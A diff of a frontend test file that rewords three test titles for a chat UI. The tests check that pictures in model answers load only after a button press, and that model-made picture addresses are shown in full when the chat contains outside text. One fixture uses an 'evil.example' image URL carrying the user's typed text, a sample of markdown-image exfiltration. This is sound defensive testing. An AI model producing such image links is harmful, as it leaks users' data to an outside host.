@@ -83,7 +83,7 @@ test('a file that only starts like a picture is reported as damaged', async () =
   await expect.element(screen.getByText(/cannot draw it/)).toBeVisible();
 });
 
-test('beside outside text, an address made by the model is shown in full before the request', async () => {
+test('a picture address made by the model is shown in full before the request if the chat has outside text', async () => {
   const url = 'https://evil.example/x.png?q=what-you-typed';
   const { screen, asked } = await answered(`![a](${url}) ![b](https://found.example/a.png)`, {
     isOutside: true,
@@ -103,7 +103,7 @@ test('beside outside text, an address made by the model is shown in full before 
   expect(asked).toEqual([url, 'https://found.example/a.png']);
 });
 
-test('an embedded picture waits for a press too', async () => {
+test('a picture embedded in the answer is also shown only after a press', async () => {
   const { screen, asked } = await answered(`Dot: ![a dot](data:image/png;base64,${pixel})`);
   await expect.element(screen.getByText('Dot: a dot')).toBeVisible();
   await expect.element(screen.getByRole('img')).not.toBeInTheDocument();
@@ -112,7 +112,7 @@ test('an embedded picture waits for a press too', async () => {
   expect(asked).toEqual([`data:image/png;base64,${pixel}`]);
 });
 
-test('a picture in a link has its button beside the link', async () => {
+test('a picture in a link has its button next to the link', async () => {
   const { screen } = await answered(`[![a](${cat})](https://shop.example/)`);
   const button = screen.getByRole('button', showIt);
   await expect.element(button).toBeVisible();
